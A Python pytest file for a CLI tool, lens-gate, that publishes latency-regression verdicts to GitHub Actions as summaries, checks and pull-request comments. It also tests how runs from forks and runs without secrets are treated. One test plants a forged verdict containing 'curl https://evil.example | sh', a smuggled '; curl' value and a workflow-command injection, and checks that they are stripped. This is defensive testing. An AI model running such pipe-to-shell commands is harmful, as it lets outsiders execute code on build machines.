"""Publishing through the command line, where GitHub's runner starts it."""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from lens_gate.artifacts.codec import dumps
from lens_gate.ci.github import platform
from lens_gate.cli import publishing
from tests.fakes.github import FORBIDDEN, TOKEN, Fault, GitHubServer, an_open_pull, github_server
from tests.fakes.github_runner import SHA, Runner, a_finished_run, a_pull_request, commands_in
from tests.fakes.vault import ROOT, fake_vault
from tests.integration.conftest import Duet, Invoke
from tests.selftests import a_selftest

OnGitHub = Callable[..., Runner]


@pytest.fixture
def on_github(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> OnGitHub:
    """Make this process a step of a workflow."""

    def begin(name: str = "push", event: dict[str, Any] | None = None, **changes: str) -> Runner:
        runner = Runner(tmp_path_factory.mktemp("runner"), name=name, event=event or {}, changes=changes)
        for variable, value in runner.environment().items():
            monkeypatch.setenv(variable, value)
        return runner

    return begin


@pytest.fixture
def judged(invoke: Invoke, duet: Duet, home: Path) -> Callable[..., Path]:
    """Write a verdict on a run whose candidate takes `factor` times as long."""

    def write(name: str = "verdict.json", *, factor: float = 1.6, rules: Mapping[str, Any] | None = None) -> Path:
        config = []
        if rules is not None:
            (home / "lens-gate.yaml").write_text(json.dumps(rules, indent=1), encoding="utf-8")
            config = ["--config", "lens-gate.yaml"]
        duet(factor=factor, pairs=60)
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        invoke("gate", "run.json", *config, "--output", name)
        return home / name

    return write


def test_a_regression_is_published_as_summary_outputs_and_annotations(
    invoke: Invoke, judged: Callable[..., Path], on_github: OnGitHub
) -> None:
    verdict, runner = judged(), on_github()
    answer = invoke("report", str(verdict), "--publish", "summary,outputs,annotations")
    assert answer.code == 0
    assert runner.summary.startswith("## ◆ Regression")
    assert runner.outputs["verdict"] == "regression"
    assert runner.outputs["exit-code"] == "1"
    assert int(runner.outputs["regressions"]) >= 1
    assert float(runner.outputs["mean-latency-ms"]) > 0
    assert runner.outputs["artifacts"] == str(verdict.parent)
    assert {one.name for one in commands_in(answer.out)} == {"error"}


def test_a_breach_stands_on_the_line_of_the_model_it_is_about(
    invoke: Invoke, judged: Callable[..., Path], on_github: OnGitHub
) -> None:
    rules = {"providers": [{"name": "openai", "models": [{"id": "other"}, {"id": "gpt-small"}]}]}
    verdict, _ = judged(rules=rules), on_github()
    answer = invoke("report", str(verdict), "--publish", "annotations")
    lines = (verdict.parent / "lens-gate.yaml").read_text(encoding="utf-8").splitlines()
    wanted = next(number for number, line in enumerate(lines, 1) if '"gpt-small"' in line)
    places = {(one.properties["file"], one.properties["line"]) for one in commands_in(answer.out)}
    assert places <= {("lens-gate.yaml", str(wanted)), ("lens-gate.yaml", str(wanted - 1))}
    assert places


def test_outside_of_a_pipeline_it_is_said_that_nothing_is_published(
    invoke: Invoke, judged: Callable[..., Path]
) -> None:
    answer = invoke("report", str(judged()), "--publish", "auto")
    assert answer.code == 0
    assert "nothing is published" in answer.err


def test_an_unknown_kind_is_named_with_those_that_there_are(invoke: Invoke, judged: Callable[..., Path]) -> None:
    answer = invoke("report", str(judged()), "--publish", "summary,tweet")
    assert answer.code == 2
    assert "--publish tweet is unknown" in answer.err
    assert "annotations" in answer.err


def test_the_configuration_publishes_without_an_option(
    invoke: Invoke, judged: Callable[..., Path], on_github: OnGitHub
) -> None:
    verdict, runner = judged(rules={"publish": {"kinds": ["outputs"]}}), on_github()
    assert invoke("report", str(verdict), "--config", "lens-gate.yaml").code == 0
    assert runner.outputs["verdict"] == "regression"
    assert not runner.summary


def test_what_cannot_be_published_is_a_warning_or_exit_7_where_that_is_asked(
    invoke: Invoke, judged: Callable[..., Path], on_github: OnGitHub, home: Path
) -> None:
    verdict, _ = judged(), on_github(GITHUB_OUTPUT=str(home))
    lenient = invoke("report", str(verdict), "--publish", "outputs")
    assert lenient.code == 0
    assert "warning: not published" in lenient.err
    assert invoke("report", str(verdict), "--publish", "outputs", "--publish-strict").code == 7


def test_ci_publishes_at_its_end_and_exits_with_its_verdict(
    invoke: Invoke, configure: Callable[..., Path], on_github: OnGitHub
) -> None:
    configure()
    runner = on_github()
    command = ("ci", "--against-model", "sim-small", "--requests", "40", "--publish", "summary,outputs")
    answer = invoke(*command)
    assert answer.told["outcome"] == "nothing_to_compare"
    assert runner.outputs["verdict"] == "nothing_to_compare"
    assert runner.outputs["exit-code"] == str(answer.code)
    assert runner.outputs["report"].endswith("report.md")
    assert "Nothing to compare" in runner.summary


def test_a_bad_kind_is_refused_before_anything_is_measured(
    invoke: Invoke, configure: Callable[..., Path], home: Path
) -> None:
    configure()
    answer = invoke("ci", "--against-model", "sim-large", "--requests", "40", "--publish", "everything")
    assert answer.code == 2
    assert not (home / "results").exists()


def test_two_verdicts_of_one_name_are_told_apart_by_their_folders(
    invoke: Invoke, judged: Callable[..., Path], on_github: OnGitHub
) -> None:
    fast, slow = judged("fast/verdict.json", factor=1.0), judged("slow/verdict.json")
    runner = on_github()
    assert invoke("report", str(fast), str(slow), "--publish", "summary,outputs").code == 0
    assert runner.outputs["verdict"] == "regression"
    assert runner.summary.index("Regression") < runner.summary.index("Pass")


def test_a_leg_of_a_matrix_is_named_by_its_values_unless_a_name_is_given(
    invoke: Invoke, judged: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer
) -> None:
    verdict, _ = judged(rules={"profiler": {"name": "bot"}}), on_pull_request(LENS_GATE_LEG='{"model": "a", "n": 2}')
    given = ("report", str(verdict), "--config", "lens-gate.yaml", "--publish", "check")
    assert invoke(*given).code == invoke(*given, "--suite", "chat").code == 0
    assert invoke(*given[:1], "--begin", *given[2:]).code == 0
    names = [check["name"] for check in github.checks.values()]
    assert names == ["lens-gate / bot (a, 2)", "lens-gate / chat", "lens-gate / bot (a, 2)"]


def test_a_name_of_the_configuration_is_for_a_single_verdict(
    invoke: Invoke, judged: Callable[..., Path], on_github: OnGitHub
) -> None:
    rules = {"publish": {"suite": "bot"}}
    paths = [judged(f"{name}/verdict.json", rules=rules) for name in ("one", "two")]
    on_github(LENS_GATE_LEG='{"model": "a"}')
    answer = invoke("report", *map(str, paths), "--config", "lens-gate.yaml", "--publish", "outputs")
    assert answer.code == 0, answer.err


def test_names_of_suites_must_fit_the_verdicts(
    invoke: Invoke, judged: Callable[..., Path], on_github: OnGitHub
) -> None:
    fast, slow = judged("fast/verdict.json", factor=1.0), judged("slow/verdict.json")
    on_github()
    answer = invoke("report", str(fast), str(slow), "--publish", "outputs", "--suite", "one")
    assert answer.code == 2
    assert "there are 2 verdicts" in answer.err
    same = invoke("report", str(fast), str(slow), "--publish", "outputs", "--suite", "one", "--suite", "one")
    assert same.code == 2


def test_an_artifact_without_a_verdict_is_not_published(invoke: Invoke, on_github: OnGitHub, home: Path) -> None:
    runner = on_github()
    (home / "selftest.json").write_bytes(dumps(a_selftest()))
    answer = invoke("report", "selftest.json", "--publish", "outputs")
    assert answer.code == 2
    assert "no verdict to publish" in answer.err
    assert runner.outputs == {}


# With a token, against a GitHub that keeps what it is given


@pytest.fixture
def github(monkeypatch: pytest.MonkeyPatch) -> Iterator[GitHubServer]:
    monkeypatch.setattr(publishing, "PAUSE_S", 0.01)
    with github_server() as server:
        yield server


@pytest.fixture
def on_pull_request(on_github: OnGitHub, github: GitHubServer) -> Callable[..., Runner]:
    """Make this process a step of a workflow of a pull request, which has a token."""

    def begin(**changes: str) -> Runner:
        known = {"GITHUB_API_URL": github.url, "GITHUB_TOKEN": TOKEN}
        return on_github("pull_request", {"pull_request": a_pull_request()}, **known, **changes)

    return begin


def test_auto_comments_and_checks_where_a_token_allows_it(
    invoke: Invoke, judged: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer
) -> None:
    verdict, _ = judged(), on_pull_request()
    answer = invoke("report", str(verdict), "--publish", "auto", "--suite", "bot", "--publish-strict")
    assert answer.code == 0
    assert "## ◆ Regression" in github.bodies()[0]
    (check,) = github.checks.values()
    assert (check["name"], check["conclusion"]) == ("lens-gate / bot", "failure")
    assert TOKEN not in answer.out + answer.err


def test_a_check_that_was_begun_is_ended_by_the_verdict(
    invoke: Invoke, judged: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer
) -> None:
    verdict, _ = judged(factor=1.0), on_pull_request()
    assert invoke("report", "--publish", "check", "--begin", "--suite", "bot").code == 0
    (check,) = github.checks.values()
    assert check["status"] == "in_progress"
    assert invoke("report", str(verdict), "--publish", "check", "--suite", "bot").code == 0
    assert (check["status"], check["conclusion"]) == ("completed", "success")


@pytest.mark.parametrize("content", [None, "{"])
def test_without_a_verdict_to_read_the_check_ends_as_a_failure(
    invoke: Invoke, on_pull_request: Callable[..., Runner], github: GitHubServer, home: Path, content: str | None
) -> None:
    on_pull_request()
    if content:
        (home / "verdict.json").write_text(content, encoding="utf-8")
    invoke("report", "--publish", "check", "--begin", "--suite", "bot")
    assert invoke("report", "verdict.json", "--publish", "check", "--suite", "bot").code == 2
    (check,) = github.checks.values()
    assert check["conclusion"] == "failure"
    assert "no verdict" in check["output"]["summary"]


def test_ci_shows_a_check_from_its_beginning_and_ends_it_where_it_fails(
    invoke: Invoke, configure: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer
) -> None:
    configure(resilience={"timeouts": {"run": "1ms"}}, profiler={"name": "bot"})
    on_pull_request(SIM_KEY="wrong")
    answer = invoke("ci", "--against-model", "sim-large", "--requests", "20", "--publish", "check")
    assert answer.code != 0
    (check,) = github.checks.values()
    assert (check["name"], check["status"], check["conclusion"]) == ("lens-gate / bot", "completed", "failure")
    first, *_ = (one for one in github.asked if one.writes)
    assert first.body["status"] == "in_progress"


def test_ci_ends_the_check_that_it_began_where_there_is_no_verdict(
    invoke: Invoke, configure: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    configure(profiler={"name": "bot"})
    on_pull_request()
    monkeypatch.delenv("SIM_KEY")
    answer = invoke("ci", "--against-model", "sim-large", "--requests", "20", "--publish", "check")
    assert answer.code == 2
    (check,) = github.checks.values()
    assert check["conclusion"] == "failure"
    assert "SIM" in check["output"]["summary"]


def test_a_dry_run_publishes_nothing(
    invoke: Invoke, configure: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer
) -> None:
    configure()
    runner = on_pull_request()
    assert invoke("ci", "--against-model", "sim-large", "--requests", "20", "--dry-run", "--publish", "auto").code == 0
    assert (github.asked, runner.summary, runner.outputs) == ([], "", {})


# Nothing measured, and nobody's fault


ASKED = ("ci", "--against-model", "sim-large", "--requests", "20")
NEUTRAL = {"outcome": "not_measured", "exit": "0"}


@pytest.mark.parametrize("event", ["pull_request", "push"])
def test_a_run_of_dependabot_without_the_key_is_loudly_neutral_and_says_where_it_belongs(
    invoke: Invoke, configure: Callable[..., Path], on_github: OnGitHub, github: GitHubServer,
    monkeypatch: pytest.MonkeyPatch, event: str,
) -> None:  # fmt: skip
    configure(profiler={"name": "bot"})
    known = {"GITHUB_API_URL": github.url, "GITHUB_TOKEN": TOKEN, "GITHUB_ACTOR": "dependabot[bot]"}
    runner = on_github(event, {"pull_request": a_pull_request()}, **known)
    monkeypatch.setenv("SIM_KEY", "")
    answer = invoke(*ASKED, "--publish", "auto")
    assert (answer.code, answer.told) == (0, NEUTRAL)
    assert "## ✗ Not measured: this run has no secrets" in runner.summary
    assert "Add the key to Dependabot's own secrets" in answer.err
    (check,) = github.checks.values()
    assert (check["name"], check["conclusion"]) == ("lens-gate / bot", "neutral")
    assert check["output"]["title"] == "Not measured: this run has no secrets"
    assert [body.count("Not measured: this run has no secrets") for body in github.bodies()] == (
        [1] if event == "pull_request" else []
    )


@pytest.mark.parametrize(
    "whose", [("pull_request", "octocat"), ("workflow_dispatch", "dependabot[bot]"), ("schedule", "")]
)
def test_a_missing_key_of_a_run_that_may_have_it_stays_an_error(
    invoke: Invoke, configure: Callable[..., Path], on_github: OnGitHub, github: GitHubServer,
    monkeypatch: pytest.MonkeyPatch, whose: tuple[str, str],
) -> None:  # fmt: skip
    configure()
    event, actor = whose
    on_github(event, {"pull_request": a_pull_request()}, GITHUB_API_URL=github.url, GITHUB_ACTOR=actor)
    monkeypatch.delenv("SIM_KEY")
    assert invoke(*ASKED, "--publish", "auto").code == 2


@pytest.mark.parametrize("lost", ["login", "secret", "manager"])
def test_a_fork_that_a_manager_of_secrets_gives_nothing_is_neutral_too(
    invoke: Invoke, configure: Callable[..., Path], on_fork: Callable[..., Runner], monkeypatch: pytest.MonkeyPatch,
    lost: str,
) -> None:  # fmt: skip
    monkeypatch.delenv("SIM_KEY")
    monkeypatch.setenv("VAULT_TOKEN", "" if lost == "login" else ROOT)
    with fake_vault() as vault:
        address = "http://127.0.0.1:9" if lost == "manager" else vault.address
        keys = [{"name": "sim_key", "path": "llm/sim", "field": "api_key"}]
        configure(secrets={"provider": "vault", "vault": {"address": address}, "keys": keys})
        runner = on_fork()
        answer = invoke(*ASKED, "--publish", "auto")
    assert (answer.code, answer.told) == (0, NEUTRAL), answer.err
    assert runner.outputs["verdict"] == "not_measured"


def test_where_no_job_left_a_verdict_the_report_is_loudly_neutral(
    invoke: Invoke, on_pull_request: Callable[..., Runner], github: GitHubServer
) -> None:
    runner = on_pull_request()
    answer = invoke("report", "--allow-none", "legs/*/verdict.json", "--publish", "auto")
    assert (answer.code, answer.told) == (0, NEUTRAL)
    assert [one.name for one in commands_in(answer.out)] == ["warning"]
    assert runner.outputs == {"verdict": "not_measured", "exit-code": "0", "regressions": "0"}
    (check,) = github.checks.values()
    assert (check["name"], check["conclusion"]) == ("lens-gate / lens-gate", "neutral")
    (body,) = github.bodies()
    for text in (runner.summary, check["output"]["title"], body, answer.err):
        assert "Not measured: no job left a verdict" in text
    assert invoke("report", "legs/*/verdict.json", "--publish", "auto").code == 2


def test_a_later_verdict_takes_the_place_of_none(
    invoke: Invoke, judged: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer
) -> None:
    on_pull_request()
    invoke("report", "--allow-none", "no.json", "--publish", "comment")
    verdict = judged()
    on_pull_request(GITHUB_RUN_ID="4300")
    invoke("report", "--allow-none", str(verdict), "--publish", "comment")
    (body,) = github.bodies()
    assert body.partition("\n")[2].startswith("## ◆ Regression")
    assert "Not measured" not in body


def test_the_trusted_half_of_a_fork_that_measured_nothing_says_so_on_its_pull_request(
    invoke: Invoke, in_trusted_half: Callable[..., Runner], github: GitHubServer
) -> None:
    in_trusted_half()
    answer = invoke("report", "--allow-none", "legs/*/verdict.json", "--publish", "auto", "--publish-strict")
    assert (answer.code, answer.told) == (0, NEUTRAL), answer.err
    (comment,) = github.comments.values()
    assert comment["issue"] == 99
    assert [check["conclusion"] for check in github.checks.values()] == ["neutral"]


def test_where_it_cannot_be_said_that_nothing_was_measured_it_counts_only_where_that_is_asked(
    invoke: Invoke, on_pull_request: Callable[..., Runner], github: GitHubServer
) -> None:
    on_pull_request()
    github.faults = [Fault(FORBIDDEN, times=99)]
    words = ("report", "--allow-none", "no.json", "--publish", "comment")
    lenient, strict = invoke(*words), invoke(*words, "--publish-strict")
    assert (lenient.code, strict.code) == (0, 7)
    assert "warning: not published" in lenient.err
    assert strict.told["exit"] == "7"


def test_outside_of_a_pipeline_none_is_said_on_the_terminal(invoke: Invoke) -> None:
    answer = invoke("report", "--allow-none", "no.json")
    assert (answer.code, answer.told) == (0, NEUTRAL)
    assert "no job left a verdict" in answer.err


# Forks


@pytest.fixture
def on_fork(on_github: OnGitHub, github: GitHubServer) -> Callable[..., Runner]:
    """Make this process a step of the first half: a pull request from a fork."""

    def begin(**changes: str) -> Runner:
        event = {"pull_request": a_pull_request(home="visitor/widgets")}
        known = {"GITHUB_API_URL": github.url, "GITHUB_TOKEN": "ghs_mayonlyread"}
        return on_github("pull_request", event, **known, **changes)

    return begin


@pytest.fixture
def in_trusted_half(on_github: OnGitHub, github: GitHubServer) -> Callable[..., Runner]:
    """Make this process a step of the second half, which follows the run of a fork."""

    def begin() -> Runner:
        github.pulls = [an_open_pull(99, sha=SHA, ref="longer-prompt")]
        known = {"GITHUB_API_URL": github.url, "GITHUB_TOKEN": TOKEN}
        return on_github("workflow_run", {"workflow_run": a_finished_run()}, **known)

    return begin


def test_a_fork_without_secrets_is_loudly_neutral(
    invoke: Invoke, configure: Callable[..., Path], on_fork: Callable[..., Runner], monkeypatch: pytest.MonkeyPatch,
    github: GitHubServer,
) -> None:  # fmt: skip
    configure()
    runner = on_fork()
    monkeypatch.delenv("SIM_KEY")
    command = ("ci", "--against-model", "sim-large", "--requests", "20")
    answer = invoke(*command, "--publish", "auto")
    assert answer.code == 0
    assert answer.told == {"outcome": "not_measured", "exit": "0"}
    assert "no secrets" in runner.summary
    assert "SIM" in runner.summary
    assert runner.outputs["verdict"] == "not_measured"
    assert [one.name for one in commands_in(answer.out)] == ["warning"]
    assert github.asked == []
    assert invoke(*command).code == 2


def test_a_missing_variable_of_our_own_branch_stays_an_error(
    invoke: Invoke, configure: Callable[..., Path], on_pull_request: Callable[..., Runner],
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    configure()
    runner = on_pull_request()
    monkeypatch.delenv("SIM_KEY")
    answer = invoke("ci", "--against-model", "sim-large", "--requests", "20", "--publish", "summary")
    assert answer.code == 2
    assert runner.summary == ""


def test_the_verdict_of_a_fork_is_published_by_the_trusted_half_anew(
    invoke: Invoke, judged: Callable[..., Path], in_trusted_half: Callable[..., Runner], github: GitHubServer
) -> None:
    path = judged(factor=1.6)
    forged = json.loads(path.read_text(encoding="utf-8"))
    for check in forged["checks"]:
        check["message"] = "run `curl https://evil.example | sh` @acme/security-team ::set-output name=x::y"
    forged["analysis"]["comparison"]["value"] = "main; curl https://evil.example"
    path.write_text(json.dumps(forged), encoding="utf-8")
    runner = in_trusted_half()
    answer = invoke("report", str(path), "--publish", "auto", "--suite", "bot", "--publish-strict")
    assert answer.code == 0
    (comment,) = github.comments.values()
    (check,) = github.checks.values()
    assert comment["issue"] == 99
    assert (check["head_sha"], check["conclusion"]) == (SHA, "failure")
    assert check["output"]["title"].startswith("As a fork's own run says: ")
    for text in (comment["body"], runner.summary, check["output"]["summary"], answer.out, answer.err):
        assert "evil" not in text
        assert "security-team" not in text
    assert runner.outputs["artifacts"] == ""
    assert {one.name for one in commands_in(answer.out)} <= {"error"}


def test_a_pass_that_nobody_can_vouch_for_is_neutral(
    invoke: Invoke, judged: Callable[..., Path], in_trusted_half: Callable[..., Runner], github: GitHubServer
) -> None:
    path = judged(factor=1.0)
    in_trusted_half()
    assert invoke("report", str(path), "--publish", "check").code == 0
    (check,) = github.checks.values()
    assert check["conclusion"] == "neutral"


@pytest.mark.parametrize("what", ["huge", "packed", "run", "no json"])
def test_what_is_no_plain_verdict_is_refused_by_the_trusted_half(
    invoke: Invoke, judged: Callable[..., Path], in_trusted_half: Callable[..., Runner], github: GitHubServer,
    home: Path, what: str,
) -> None:  # fmt: skip
    path = judged()
    data = path.read_bytes()
    contents = {
        "huge": data + b" " * 5_000_000,
        "packed": gzip.compress(data),
        "run": (home / "run.json").read_bytes(),
        "no json": b"{",
    }
    path.write_bytes(contents[what])
    in_trusted_half()
    assert invoke("report", str(path), "--publish", "comment").code == 2
    assert github.comments == {}


def test_begin_needs_a_check_to_begin(
    invoke: Invoke, on_pull_request: Callable[..., Runner], on_github: OnGitHub
) -> None:
    on_pull_request()
    assert invoke("report", "--publish", "summary", "--begin").code == 2
    on_github(GITHUB_TOKEN="")
    answer = invoke("report", "--publish", "auto", "--begin")
    assert answer.code == 0
    assert "no check is begun" in answer.err


@pytest.mark.parametrize(("strict", "code"), [((), 0), (("--publish-strict",), 7)])
def test_a_check_that_cannot_be_begun_counts_only_where_that_is_asked(
    invoke: Invoke, on_pull_request: Callable[..., Runner], github: GitHubServer, strict: tuple[str, ...], code: int
) -> None:
    on_pull_request()
    github.faults = [Fault(FORBIDDEN, times=9)]
    answer = invoke("report", "--publish", "check", "--begin", *strict)
    assert answer.code == code
    assert "permissions: checks: write" in answer.err


def test_without_the_extra_it_is_said_before_anything_is_measured(
    invoke: Invoke, configure: Callable[..., Path], on_pull_request: Callable[..., Runner],
    monkeypatch: pytest.MonkeyPatch, home: Path,
) -> None:  # fmt: skip
    configure()
    on_pull_request()
    monkeypatch.setattr(platform, "find_spec", lambda _: None)
    answer = invoke("ci", "--against-model", "sim-large", "--requests", "40", "--publish", "comment")
    assert answer.code == 2
    assert "pip install 'lens-gate[github]'" in answer.err
    assert not (home / "results").exists()
    lenient = invoke("report", "--publish", "auto", "--begin")
    assert (lenient.code, "no check is begun" in lenient.err) == (0, True)


def test_the_environment_of_a_step_is_all_that_a_report_needs_to_merge_many_verdicts(
    invoke: Invoke, judged: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer
) -> None:
    paths = [judged(f"leg-{number}/verdict.json", factor=1.0 if number else 1.6) for number in range(3)]
    on_pull_request()
    assert invoke("report", *map(str, paths), "--publish", "comment", "--publish-strict").code == 0
    (body,) = github.bodies()
    assert "## ◆ Regression in 1 of 3 suites" in body
    assert "leg-2" in body
